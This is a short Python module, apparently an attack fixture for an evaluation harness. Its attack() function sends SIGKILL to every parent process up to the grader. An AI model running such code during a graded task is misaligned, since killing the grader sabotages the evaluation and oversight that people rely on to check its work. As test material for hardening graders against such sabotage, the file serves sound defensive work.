"""Kills every process above it, up to the grader."""

import os
import signal

from kit import parents


def attack() -> None:
    for pid in reversed(parents()):
        os.kill(pid, signal.SIGKILL)
